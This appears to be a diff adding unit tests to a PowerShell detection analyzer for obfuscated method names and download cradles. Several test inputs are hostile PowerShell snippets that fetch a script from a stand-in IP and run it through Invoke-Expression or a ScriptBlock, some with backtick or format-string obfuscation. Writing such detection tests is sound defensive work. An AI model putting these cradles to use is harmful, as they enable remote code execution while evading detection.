@@ -85,3 +85,56 @@ def test_defender_policy_values_written_stay_tampering() -> None:
         Get-ItemPropertyValue -Path $p -Name DisableAntiSpyware
     """)
     assert lines_of(result, "PSDefenderTampering") == [2, 4]
+
+
+def test_a_method_name_in_a_braced_variable_assigned_computed_text_is_folded() -> None:
+    result = analyze("""
+        ${o} = New-Object Net.WebClient
+        ${m} = ("{0}{2}{1}" -f 'Down', 'String', 'load')
+        ${s} = ${o}.${m}('http://198.51.100.33/p.ps1')
+        Invoke-Expression ${s}
+    """)
+    assert lines_of(result, "PSObfuscatedCommandName") == [3]
+    assert lines_of(result, "PSDownloadCradle") == [3]
+    assert "DownloadString" in hits(result, "PSObfuscatedCommandName")[0].message
+
+
+def test_a_braced_variable_holding_a_plain_literal_or_computed_property_name_is_no_obfuscation() -> None:
+    result = analyze("""
+        ${m} = 'DownloadString'
+        ${p} = ('Ro' + 'ot')
+        ${cfg} = Get-Content -Path .\\c.json -Raw | ConvertFrom-Json
+        Write-Output ${cfg}.${p} ${cfg}.${m}
+    """)
+    assert lines_of(result, "PSObfuscatedCommandName") == []
+
+
+def test_a_computed_method_name_invoked_through_its_method_object_is_a_call() -> None:
+    result = analyze("""
+        $src = (Ne`w-Ob`j`ect Net.`WebC`l`ient).("Down" + "loadString").Invoke('http://198.51.100.48/s')
+        $sb = [ScriptBlock]::Create($src)
+        $sb.Invoke()
+    """)
+    assert lines_of(result, "PSObfuscatedCommandName") == [1]
+    assert lines_of(result, "PSDownloadCradle") == [1]
+
+
+def test_a_computed_property_read_then_invoked_later_is_no_call() -> None:
+    result = analyze("""
+        $method = $cfg.('Ro' + 'ot')
+        $value = $cfg.('Ro' + 'ot').Length
+        Write-Output $method $value
+    """)
+    assert lines_of(result, "PSObfuscatedCommandName") == []
+
+
+def test_a_download_method_object_invoked_is_a_download() -> None:
+    result = analyze("""
+        $doc = (New-Object Net.WebClient).DownloadString.Invoke('http://198.51.100.48/readme.txt')
+        Write-Output $doc
+        $page = (New-Object Net.WebClient).DownloadString.Invoke('http://198.51.100.48/s')
+        Invoke-Expression $page
+        $items.Invoke(1)
+    """)
+    assert lines_of(result, "PSNetWebClientDownload") == [1]
+    assert lines_of(result, "PSDownloadCradle") == [3]
